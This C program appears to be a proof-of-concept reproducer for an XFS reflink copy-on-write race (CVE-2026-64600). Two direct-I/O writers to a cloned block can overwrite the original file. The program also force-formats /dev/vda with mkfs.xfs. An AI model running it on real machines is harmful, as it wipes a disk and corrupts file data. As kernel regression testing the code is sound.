/*
 * Two direct writers to a block of an XFS reflink clone change the original file.
 *
 *   xfs-reflink-race [ROUNDS]        needs an empty disk at /dev/vda, mkfs.xfs and two CPUs
 *
 * A clone shares its blocks with the original, so what is written to the clone must go to a new block (copy on write).
 * xfs_reflink_fill_cow_hole() lets go of the inode's lock to reserve space for that block, takes it again, and looks
 * whether the block is still shared, but goes by the mapping from before. If the other writer has come to its end
 * meanwhile, the clone has its new block, the old one is not shared any more, and is written to: it is the original's.
 * CVE-2026-64600; fixed by commit 2f4acd0fcd86, and in Debian's 6.1.180-1.
 *
 * The window opens when both writes begin, so both writers leave a barrier together and nothing delays either. The I/O
 * is direct: the page cache would put the writes in order, and hide on reading what became of the disk.
 *
 * Exit status: 0 the original stayed whole, 1 it was changed, 2 there was nothing to try it on.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/fs.h>
#include <pthread.h>
#include <spawn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { BLOCK = 4096, ROUNDS = 2000 };

static char disk[] = "/dev/vda", place[] = "/tmp/xfs";
static char own[BLOCK] __attribute__((aligned(BLOCK))), found[BLOCK] __attribute__((aligned(BLOCK)));
static char writers[2][BLOCK] __attribute__((aligned(BLOCK)));
static pthread_barrier_t start, end;
static int original, copy;

static void need(int holds, const char *what)
{
	if (!holds) {
		perror(what);
		exit(2);
	}
}

/* There is no shell in the machine that could start mkfs. */
static void make_file_system(void)
{
	char *const argv[] = { "mkfs.xfs", "-q", "-f", "-m", "reflink=1", disk, NULL };
	pid_t child;
	int status;

	need(posix_spawnp(&child, argv[0], NULL, NULL, argv, environ) == 0, "start mkfs.xfs");
	need(waitpid(child, &status, 0) == child && status == 0, "mkfs.xfs");
	need(mkdir(place, 0700) == 0 && mount(disk, place, "xfs", 0, NULL) == 0, "mount");
}

static int make_file(const char *name)
{
	int fd = open(name, O_RDWR | O_CREAT | O_DIRECT, 0600);

	need(fd >= 0, name);
	return fd;
}

/* Writes its own letter over the clone's block, once a round. */
static void *write_to_clone(void *block)
{
	for (;;) {
		pthread_barrier_wait(&start);
		need(pwrite(copy, block, BLOCK, 0) == BLOCK, "write to the clone");
		pthread_barrier_wait(&end);
	}
	return NULL;
}

/* Shares the block anew, lets both writers go, and says whether the original is still whole. */
static int play_round(void)
{
	need(ioctl(copy, FICLONE, original) == 0, "FICLONE");
	pthread_barrier_wait(&start);
	pthread_barrier_wait(&end);
	need(pread(original, found, BLOCK, 0) == BLOCK, "read the original");
	return memcmp(found, own, BLOCK) == 0;
}

int main(int argc, char **argv)
{
	long round = 0, rounds = argc > 1 ? atol(argv[1]) : ROUNDS;
	pthread_t thread;
	int is_whole = 1;

	make_file_system();
	original = make_file("/tmp/xfs/original");
	copy = make_file("/tmp/xfs/clone");
	memset(own, 'o', BLOCK);
	need(pwrite(original, own, BLOCK, 0) == BLOCK, "write to the original");
	pthread_barrier_init(&start, NULL, 3);
	pthread_barrier_init(&end, NULL, 3);
	for (int i = 0; i < 2; i++) {
		memset(writers[i], 'a' + i, BLOCK);
		need(pthread_create(&thread, NULL, write_to_clone, writers[i]) == 0, "thread");
	}
	while (is_whole && round < rounds) {
		is_whole = play_round();
		round++;
	}
	if (is_whole)
		printf("the original stayed whole for %ld rounds\n", round);
	else
		printf("round %ld: the original holds what writer %c wrote to the clone\n", round, found[0]);
	return !is_whole;
}
